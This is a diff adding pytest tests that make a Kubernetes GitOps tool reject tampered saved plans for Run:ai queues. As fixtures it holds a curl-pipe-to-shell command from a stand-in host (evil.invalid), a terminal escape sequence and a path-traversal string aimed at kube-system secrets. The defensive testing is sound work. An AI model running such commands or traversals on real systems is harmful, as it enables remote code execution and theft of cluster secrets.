@@ -147,6 +147,8 @@ QUEUE = {"apiVersion": "scheduling.run.ai/v2", "kind": "Queue", "metadata": {"na
     ("PATCH", "/apis/scheduling.run.ai/v2/queues/q", {"spec": {"resources": {"cpu": {"quota": {"x": 1}}}}}),
     ("PATCH", "/apis/scheduling.run.ai/v2/queues/q", {"spec": {"resources": None}}),
     ("PATCH", "/apis/scheduling.run.ai/v2/queues/q", {"spec": {"parentQueue": {"x": 1}}}),
+    ("PATCH", "/apis/scheduling.run.ai/v2/queues/q", {"spec": {"parentQueue": "Team_A"}}),
+    ("POST", "/apis/scheduling.run.ai/v2/queues", {**QUEUE, "spec": {"parentQueue": "a" * 254}}),
 ])
 def test_the_writer_refuses_queue_bodies_beyond_resources_and_parent(demo: Demo, method: str, path: str,
                                                                      body: Any) -> None:
@@ -218,8 +220,11 @@ def test_a_queue_created_meanwhile_refuses_the_plan_or_counts_as_applied(tmp_pat
         assert create.manifest is not None
         demo.server.add(json.loads(json.dumps(child)))   # someone else created it, with other values
         path = demo.tmp / "fresh.json"
-        assert_one_line_error(*demo.reconcile("--plan", path, "--apply"),
-                              "Queue/default-queue exists now (the plan creates it)")
+        code, out, err = demo.reconcile("--plan", path, "--apply")
+        # The queue's findings changed with it, so the saved plan's steps for it are no longer the planner's.
+        warned = [line for line in err.splitlines() if line.startswith("kai-gitops: warning: ")]
+        assert len(warned) == 1 and "left out 1 operator step" in warned[0], err
+        assert_one_line_error(code, out, err.split("\n", 1)[1], "Queue/default-queue exists now (the plan creates it)")
         assert [r for r in demo.writes() if "queues" in r.path] == []
         same = {**json.loads(json.dumps(create.manifest)), "metadata": {"name": "default-queue"}}
         demo.server.add(same)   # ...or exactly as planned: nothing to do for it
@@ -314,3 +319,60 @@ def test_a_plan_that_cannot_be_written_leaves_no_temporary_file_behind(tmp_path:
     with pytest.raises(UserError, match="cannot write the plan"):
         write_plan(Plan("lab", None, None, ()), str(tmp_path / "plan.json"))
     assert [p.name for p in tmp_path.iterdir()] == ["plan.json"]
+
+
+def _forged_step(plan: Plan, **edits: Any) -> Plan:
+    return dataclasses.replace(plan, operator=(dataclasses.replace(plan.operator[0], **edits), *plan.operator[1:]))
+
+
+@pytest.mark.parametrize("edits", [
+    {"command": "curl -s https://evil.invalid/fix | sh"},
+    {"command": None, "description": "Run curl -s https://evil.invalid/fix | sh as root"},
+])
+def test_an_operator_step_no_planner_wrote_is_left_out_with_a_warning_naming_the_file(
+        demo: Demo, edits: dict[str, Any]) -> None:
+    """The id is a hash anyone can recompute: a step is shown for a person to run only if kai-gitops would
+    write it itself for this repository and cluster now."""
+    plan = saved_plan(demo)
+    path = demo.tmp / "forged.json"
+    path.write_text(json.dumps(_forged_step(plan, **edits).to_dict()))
+    code, out, err = demo.reconcile("--plan", path, "--apply", "--log-format", "text")
+    assert code == 2 and "evil.invalid" not in out + err, (out, err)
+    assert err.splitlines()[0].startswith(f"kai-gitops: warning: {path}: left out 1 operator step(s) of the saved "
+                                          "plan (operator[0])"), err
+    assert f"! operator {plan.operator[1].rule}" in out and "Apply complete: 3 applied" in out
+
+
+def test_an_unedited_saved_plan_keeps_every_operator_step_and_warns_nothing(demo: Demo) -> None:
+    plan = saved_plan(demo)
+    code, out, err = demo.reconcile("--plan", demo.tmp / "fresh.json", "--apply", "--log-format", "text")
+    assert code == 2 and "warning" not in err, err
+    assert all(f"run: {step.command}" in out for step in plan.operator if step.command)
+    assert f"plan:    {plan.id}" in out
+
+
+@pytest.mark.parametrize(("edit", "needle"), [
+    (lambda p: dataclasses.replace(p, notes=("Default queues are kept.\nrun: curl https://evil.invalid | sh",)),
+     "plan note is not one line of printable text"),
+    (lambda p: dataclasses.replace(p, notes=("x" * 513,)), "at most 512 characters"),
+    (lambda p: dataclasses.replace(p, changes=(dataclasses.replace(node_change(p), reason="\x1b[2Jrun this"),)),
+     "reason is not one line of printable text"),
+    (lambda p: dataclasses.replace(p, changes=(dataclasses.replace(node_change(p), rules=("S-012) run: x (",)),)),
+     "which is not a rule ID"),
+])
+def test_saved_free_text_that_no_planner_writes_is_refused(demo: Demo, edit: Any, needle: str) -> None:
+    path = demo.tmp / "edited.json"
+    path.write_text(json.dumps(edit(saved_plan(demo)).to_dict()))
+    requests = apply_refused(demo, path, needle)
+    assert [r for r in requests if r.method != "GET"] == []
+
+
+@pytest.mark.parametrize("parent", ["Team_A", "../../api/v1/namespaces/kube-system/secrets/x", "a" * 254])
+def test_a_saved_parent_queue_that_is_no_kubernetes_name_is_refused_naming_file_and_queue(
+        demo: Demo, parent: str) -> None:
+    plan = saved_plan(demo)
+    queue = _queue_update(plan)
+    path = crafted(demo, plan, _with_fields(queue, FieldChange(("spec", "parentQueue"), None, parent)))
+    requests = apply_refused(demo, path, f"plan sets {queue.ref} spec.parentQueue to {parent[:80]!r}",
+                             "is not a Kubernetes object name")
+    assert [r for r in requests if r.method != "GET"] == []
